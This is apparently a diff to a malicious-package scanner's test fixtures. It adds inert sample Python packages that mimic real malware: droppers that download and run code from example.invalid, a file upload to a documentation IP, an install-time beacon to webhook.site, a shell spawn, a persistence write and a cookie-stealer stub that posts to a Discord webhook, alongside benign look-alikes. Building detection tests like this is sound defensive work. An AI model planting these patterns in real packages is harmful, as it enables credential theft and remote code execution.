@@ -122,7 +122,11 @@ MALICIOUS: dict[str, tuple[str, bytes]] = {
     ),
     "pth-exec": (
         "hook-0.1-py3-none-any.whl",
-        wheel("hook", "0.1", {"hook.pth": "import os; os.getcwd()\n", "hook/__init__.py": ""}),
+        wheel(
+            "hook",
+            "0.1",
+            {"hook.pth": "import os, _unshipped; os.getcwd()\n", "hook/__init__.py": ""},
+        ),
     ),
     "clipboard": (
         "clip-0.1-py3-none-any.whl",
@@ -243,6 +247,103 @@ MALICIOUS: dict[str, tuple[str, bytes]] = {
             },
         ),
     ),
+    # Issue 16, behaviours seen in real malware (inert here: loopback, example.invalid).
+    "dropper:download-write-run": (
+        "fetchrun-0.1-py3-none-any.whl",
+        wheel(
+            "fetchrun",
+            "0.1",
+            {
+                "fetchrun/__init__.py": "import os, requests\n\n\ndef update(name):\n"
+                "    data = requests.get('https://example.invalid/' + name).content\n"
+                "    with open(name, 'wb') as f:\n        f.write(data)\n"
+                "    os.system(f'chmod +x {name} && ./{name}')\n"
+            },
+        ),
+    ),
+    "dropper:decoded-to-literal-path": (
+        "dropexe-0.1-py3-none-any.whl",
+        wheel(
+            "dropexe",
+            "0.1",
+            {
+                "dropexe/__init__.py": "import os, urllib.request\n\n\ndef go():\n"
+                "    body = urllib.request.urlopen('https://example.invalid/x').read()\n"
+                "    out = []\n    for b in body:\n        out.append(b ^ 7)\n"
+                "    with open('C://tmp//tool.bin', 'wb') as f:\n        f.write(bytes(out))\n"
+                "    os.system('start C://tmp//tool.bin')\n"
+            },
+        ),
+    ),
+    "exfiltration:file-to-bare-ip": (
+        "uploader-0.1-py3-none-any.whl",
+        wheel(
+            "uploader",
+            "0.1",
+            {
+                "uploader/__init__.py": "import httpx\nSINK = 'http://203.0.113.9:8000/v'\n\n\n"
+                "async def check(path):\n    async with httpx.AsyncClient() as client:\n"
+                "        with open(path, 'rb') as f:\n"
+                "            await client.post(SINK, files={'f': (path, f)})\n"
+            },
+        ),
+    ),
+    "network-call:install-beacon": (
+        "beacon-0.1.tar.gz",
+        sdist(
+            "beacon",
+            "0.1",
+            {
+                "setup.py": "import urllib.request\nfrom setuptools import setup\n"
+                "from setuptools.command.install import install\n\n\nclass Hook(install):\n"
+                "    def run(self):\n        urllib.request.urlopen('https://webhook.site/inert')\n"
+                "        install.run(self)\n\n\nsetup(name='beacon', cmdclass={'install': Hook})\n",
+                "beacon/__init__.py": "",
+            },
+        ),
+    ),
+    "shell-spawn": (
+        "shellout-0.1-py3-none-any.whl",
+        wheel(
+            "shellout",
+            "0.1",
+            {"shellout/__init__.py": "import subprocess\nsubprocess.call('/bin/sh', shell=True)\n"},
+        ),
+    ),
+    "persistence:profile-write-at-install": (
+        "persist-0.1.tar.gz",
+        sdist(
+            "persist",
+            "0.1",
+            {
+                "setup.py": "import os\nfrom setuptools import setup\nhome = os.getenv('APPDATA')\n"
+                "with open(home + '\\\\Extension\\\\bg.js', 'w+') as f:\n    f.write('inert')\n"
+                "setup(name='persist')\n",
+                "persist/__init__.py": "",
+            },
+        ),
+    ),
+    "stealer-kit": (
+        "cookiejar-0.1.tar.gz",
+        sdist(
+            "cookiejar",
+            "0.1",
+            {
+                "setup.py": "from setuptools import setup\nsetup(name='cookiejar')\n",
+                # does not even parse, as in the wild: the imports and the URL still tell
+                "cookiejar/__init__.py": "import browser_cookie3\n"
+                "hook=https://discord.com/api/webhooks/1/inert\n",
+            },
+        ),
+    ),
+    "disguised-bytecode": (
+        "cachey-0.1-py3-none-any.whl",
+        wheel(
+            "cachey",
+            "0.1",
+            {"cachey/__init__.py": "", "cachey/__pycache__/blob.pyc": bytes(range(64)) * 8},
+        ),
+    ),
     "native-exfiltration-endpoint": (
         "nat-0.1-cp311-cp311-linux_x86_64.whl",
         wheel(
@@ -334,6 +435,29 @@ BENIGN: dict[str, bytes] = {
         {
             "fastext/__init__.py": "from ._core import *\n",
             "fastext/_core.so": b"\x7fELF\x02\x01 GCC: (GNU) 12.2 _PyInit__core",
+        },
+    ),
+    # Downloads saved to a file but never run, and bytecode next to its source.
+    "fetcher-1.0-py3-none-any.whl": wheel(
+        "fetcher",
+        "1.0",
+        {
+            "fetcher/__init__.py": "import requests, subprocess\n\n\ndef save(url, path):\n"
+            "    with open(path, 'wb') as f:\n        f.write(requests.get(url).content)\n\n\n"
+            "def version():\n    return subprocess.run(['git', 'describe'], check=False)\n",
+            "fetcher/__pycache__/__init__.cpython-311.pyc": b"\xa7\r\r\n" + bytes(12),
+        },
+    ),
+    # A .pth that imports its own shim (setuptools, virtualenv) and an SDK reading its config.
+    "shim-1.0-py3-none-any.whl": wheel(
+        "shim",
+        "1.0",
+        {
+            "shim.pth": "import os; os.environ.get('X') and __import__('_shim').install()\n"
+            "import sys; exec('import os\\nif os.getenv(\"X\"):\\n import shim')\n",
+            "_shim/__init__.py": "def install():\n    return None\n",
+            "shim/__init__.py": "import os\n\n\ndef config():\n"
+            "    return open(os.path.expanduser('~/.aws/config')).read()\n",
         },
     ),
     "plain-2.1.tar.gz": sdist(
